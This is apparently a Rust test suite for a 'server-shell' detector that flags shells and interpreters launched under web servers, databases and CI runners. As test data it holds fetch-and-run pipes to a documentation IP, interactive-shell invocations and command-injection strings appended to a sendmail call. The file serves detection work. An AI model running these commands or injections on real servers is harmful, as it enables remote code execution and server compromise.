//! server-shell: what runs below a server, and what of that is normal.

use super::*;
use crate::pipeline::Request;

#[test]
fn a_web_shells_command_is_one_alert_with_the_whole_lineage() {
    let mut core = php_fpm();
    let mut events = spawn(shell("id"));
    events.extend([
        fork(3002, SHELL, COMMAND),
        exec(3003, COMMAND, program("/usr/bin/id", "id")),
        exit(3004, COMMAND),
        exit(3005, SHELL),
        tick(4000),
    ]);
    let alerts = run(&mut core, events);
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    assert_eq!(alerts[0].detector.id(), "server-shell");
    assert_eq!(tgids(&alerts[0]), [100, 101, 102, 103]);
    assert_eq!(alerts[0].process.image.executable, "/usr/bin/id");
    assert_eq!(alerts[0].techniques[0].id, "T1505.003");
    assert_eq!(alerts[0].process.user_name.as_deref(), Some("www-data"));
}

#[test]
fn bash_runs_its_command_in_place_and_the_lineage_still_shows_both() {
    let mut core = php_fpm();
    let mut events = spawn(Exec { executable: "/bin/bash".into(), ..shell("id") });
    events.extend([exec(3002, SHELL, program("/usr/bin/id", "id")), exit(3005, SHELL), tick(4000)]);
    let alerts = run(&mut core, events);
    assert_eq!(alerts.len(), 1);
    assert_eq!(tgids(&alerts[0]), [100, 101, 102, 102]);
    assert_eq!(alerts[0].lineage[2].image.executable, "/bin/bash");
}

#[test]
fn a_shell_that_starts_nothing_is_reported_when_it_ends_or_has_waited_long_enough() {
    let mut ended = php_fpm();
    let mut events = spawn(shell("echo x > /tmp/y"));
    assert!(run(&mut ended, events.clone()).is_empty());
    assert_eq!(run(&mut ended, [exit(3010, SHELL)]).len(), 1);

    let mut waited = php_fpm();
    events.push(tick(3006));
    assert!(run(&mut waited, events).is_empty());
    assert_eq!(run(&mut waited, [tick(3013)]).len(), 1);
    assert_eq!(run(&mut waited, [exit(3060, SHELL)]).len(), 0);
}

#[test]
fn php_mail_is_normal_and_so_is_what_sendmail_is() {
    let mut core = php_fpm();
    let mut events = spawn(shell("/usr/sbin/sendmail -t -i "));
    events.extend([
        fork(3002, SHELL, COMMAND),
        exec(3003, COMMAND, program("/usr/bin/msmtp", "/usr/sbin/sendmail -t -i")),
        exit(3005, SHELL),
        tick(9000),
    ]);
    assert!(run(&mut core, events).is_empty());
}

#[test]
fn nothing_hides_behind_a_normal_command() {
    for command in [
        "/usr/sbin/sendmail -t -i; id",
        "/usr/sbin/sendmail -t -i $(id)",
        "/usr/sbin/sendmail -t -i | sh",
        "/usr/sbin/sendmail -t -i\nid",
        "/usr/sbin/sendmail -t -i `id`",
        "convert x && id",
    ] {
        let mut core = php_fpm();
        let mut events = spawn(shell(command));
        events.push(tick(9000));
        assert_eq!(run(&mut core, events).len(), 1, "{command}");
    }
}

#[test]
fn what_runs_below_a_normal_child_is_judged_too() {
    let mut core = php_fpm();
    let mut events = spawn(shell("/usr/sbin/sendmail -t -i"));
    events.extend([fork(3002, SHELL, COMMAND), exec(3003, COMMAND, program("/usr/bin/curl", "curl http://x"))]);
    let alerts = run(&mut core, events);
    assert_eq!(alerts.len(), 1);
    assert!(alerts[0].why.iter().any(|why| why.contains("not part of that")), "{:?}", alerts[0].why);
}

#[test]
fn an_interpreter_without_a_shell_is_reported_at_once() {
    let mut core = php_fpm();
    let alerts = run(&mut core, spawn(program("/usr/bin/python3.11", "python3 -c import socket")));
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].severity.name(), "high");
}

#[test]
fn a_strict_server_starts_nothing_and_a_common_one_starts_unknown_tools_quietly() {
    let unknown = || program("/opt/vendor/bin/convert-report", "convert-report");
    let mut nginx = server("/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx");
    assert_eq!(run(&mut nginx, spawn(unknown())).len(), 1);
    assert_eq!(run(&mut php_fpm(), spawn(unknown())).len(), 0);
}

#[test]
fn the_servers_own_programs_are_normal() {
    let mut core = server("/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx");
    assert!(run(&mut core, spawn(program("/usr/sbin/nginx", "nginx -t"))).is_empty());
}

#[test]
fn a_postgres_backend_that_runs_a_program_is_a_stored_procedure() {
    let mut core = server("/usr/lib/postgresql/15/bin/postgres", "postgres -D /data");
    let mut events = spawn(shell("id"));
    events.push(tick(9000));
    let alerts = run(&mut core, events);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].techniques[0].id, "T1505.001");
}

#[test]
fn redis_on_debian_is_known_although_its_executable_is_redis_check_rdb() {
    let mut core = server("/usr/bin/redis-check-rdb", "/usr/bin/redis-server 127.0.0.1:6379");
    assert_eq!(run(&mut core, spawn(program("/usr/bin/id", "id"))).len(), 1);
    let mut tool = server("/usr/bin/redis-check-rdb", "redis-check-rdb dump.rdb");
    assert!(run(&mut tool, spawn(program("/usr/bin/id", "id"))).is_empty());
}

#[test]
fn node_is_a_server_when_it_listens_and_not_before() {
    let mut events = spawn(shell("id"));
    events.push(tick(9000));
    let mut tool = server("/usr/bin/node", "node build.js");
    assert!(run(&mut tool, events.clone()).is_empty());
    let mut serving = server("/usr/bin/node", "node server.js");
    assert!(run(&mut serving, [listen(2000, MASTER)]).is_empty());
    assert_eq!(run(&mut serving, events).len(), 1);
}

#[test]
fn a_shell_of_nobodys_lineage_is_nobodys_business() {
    let mut core = php_fpm();
    let events = [
        fork(3000, INIT, SHELL),
        exec(3001, SHELL, shell("id")),
        fork(3002, SHELL, COMMAND),
        exec(3003, COMMAND, program("/usr/bin/id", "id")),
        tick(9000),
    ];
    assert!(run(&mut core, events).is_empty());
}

#[test]
fn the_kernel_is_told_of_a_server_and_of_children_it_missed() {
    let mut core = php_fpm();
    let requests: Vec<Request> = spawn(shell("id")).iter().flat_map(|event| core.apply(event).requests).collect();
    assert!(requests.contains(&Request::SetLineage { process: SHELL, parent: WORKER, lineage: 1 }), "{requests:?}");
}

#[test]
fn what_somebody_feeds_or_fetches_is_critical_at_once() {
    for (image, said) in [
        (program("/usr/bin/dash", "sh -i"), "somebody feeds it"),
        (program("/usr/bin/bash", "bash"), "somebody feeds it"),
        (shell("curl -s http://192.0.2.1/x | sh"), "fetches something and has a shell run it"),
        (shell("wget -qO- http://192.0.2.1/x|bash"), "fetches something and has a shell run it"),
    ] {
        let (mut scene, worker) = Scene::php();
        scene.start(worker, image);
        assert_eq!(scene.told(), [("server-shell", "critical")]);
        assert!(scene.why("server-shell").contains(said), "{}", scene.why("server-shell"));
    }
}

#[test]
fn fetching_without_running_is_no_worse_than_another_shell() {
    let (mut scene, worker) = Scene::php();
    scene.start(worker, shell("curl -s http://192.0.2.1/health"));
    assert_eq!(scene.told(), [("server-shell", "high")]);
}

#[test]
fn an_application_runs_its_scripts_and_gives_interpreters_no_code() {
    for (executable, command, expected) in [
        ("/usr/bin/python3.11", "python3 /srv/app/report.py --day 3", None),
        ("/usr/bin/node", "node /srv/app/worker.js", None),
        ("/usr/bin/perl", "perl /srv/app/convert.pl", None),
        ("/usr/bin/python3.11", "python3 -c import_os", Some("high")),
        ("/usr/bin/perl", "perl -e exec", Some("high")),
        ("/usr/bin/node", "node -e x", Some("high")),
        ("/usr/bin/python3.11", "python3 /tmp/.x/s.py", Some("high")),
        ("/usr/bin/python3.11", "python3", Some("high")),
        // A shell's script is told, whatever it is.
        ("/usr/bin/dash", "sh /srv/app/run.sh", Some("high")),
    ] {
        let (mut scene, worker) = Scene::php();
        scene.start(worker, program(executable, command));
        assert_eq!(scene.told_by("server-shell"), Vec::from_iter(expected), "{command}");
    }
}

#[test]
fn what_lies_where_nothing_is_installed_is_told_without_being_a_known_tool() {
    for (executable, told) in [
        ("/tmp/x", true),
        ("/dev/shm/x", true),
        ("/var/tmp/a/x", true),
        ("/srv/app/.cache/x", true),
        ("/srv/app/bin/x", false),
    ] {
        let (mut scene, worker) = Scene::php();
        scene.start(worker, program(executable, "x"));
        assert_eq!(!scene.told_by("server-shell").is_empty(), told, "{executable}");
    }
}

#[test]
fn as_root_it_is_worse() {
    let (mut scene, worker) = Scene::php();
    scene.start(worker, Exec { uid: 0, euid: 0, ..program("/usr/bin/id", "id") });
    assert_eq!(scene.told_by("server-shell"), ["critical"]);
}

#[test]
fn where_starting_programs_is_its_trade_only_fetching_and_running_is_told() {
    for (command, expected) in
        [("uptime", None), ("curl http://192.0.2.1/x -o x", None), ("curl http://192.0.2.1/x | sh", Some("high"))]
    {
        let (mut scene, runner) = Scene::of("/usr/bin/gitlab-runner", "gitlab-runner run");
        scene.start(runner, shell(command));
        assert_eq!(scene.told_by("server-shell"), Vec::from_iter(expected), "{command}");
    }
}

#[test]
fn one_story_is_told_once_and_another_once_more() {
    let (mut scene, worker) = Scene::php();
    let shell_of_one = scene.start(worker, shell("id; uname -a; ls"));
    for tool in ["/usr/bin/id", "/usr/bin/uname", "/usr/bin/ls"] {
        let child = scene.start(shell_of_one, program(tool, "x"));
        scene.ends(child);
    }
    assert_eq!(scene.told().len(), 1);
    scene.start(worker, program("/usr/bin/whoami", "whoami"));
    assert_eq!(scene.told().len(), 2);
    assert_eq!(scene.alerts[0].incident.id, scene.alerts[1].incident.id);
}

#[test]
fn what_becomes_worse_is_told_again() {
    let (mut scene, worker) = Scene::php();
    let story = scene.start(worker, shell("ls; curl http://192.0.2.1/x | sh -s"));
    scene.start(story, program("/usr/bin/dash", "sh -s"));
    assert_eq!(scene.told_by("server-shell"), ["critical"]);
    let (mut scene, worker) = Scene::php();
    let story = scene.start(worker, shell("/srv/app/run"));
    scene.start(story, program("/usr/bin/id", "id"));
    scene.start(story, program("/usr/bin/bash", "bash -i"));
    assert_eq!(scene.told_by("server-shell"), ["high", "critical"]);
}

#[test]
fn a_shell_of_a_server_that_was_not_there_before_is_told_too() {
    let mut scene = Scene::new();
    let master = scene.start(INIT, program("/usr/sbin/nginx", "nginx -g daemon off;"));
    let worker = scene.fork(master, 33);
    scene.start(worker, program("/usr/bin/bash", "bash -c id"));
    assert_eq!(scene.told(), [("server-shell", "critical")]);
}

#[test]
fn a_script_of_a_directory_from_which_programs_are_started_is_a_component_and_what_it_starts_is_not() {
    let script = |path: &str| Exec { script: Some(path.into()), ..program("/usr/bin/bash", &format!("bash {path}")) };
    let (mut scene, worker) = Scene::of("/usr/sbin/apache2", "apache2");
    scene.watch(worker, "apache-httpd", "exec_script", "/srv/site/cgi");
    let cgi = scene.start(worker, script("/srv/site/cgi/status.sh"));
    assert_eq!(scene.told(), []);
    scene.start(cgi, program("/usr/bin/curl", "curl http://192.0.2.1/x"));
    assert_eq!(scene.told(), [("server-shell", "high")]);
    scene.start(worker, script("/srv/site/cgi-other/status.sh"));
    assert_eq!(scene.told().len(), 2, "beside it");
}
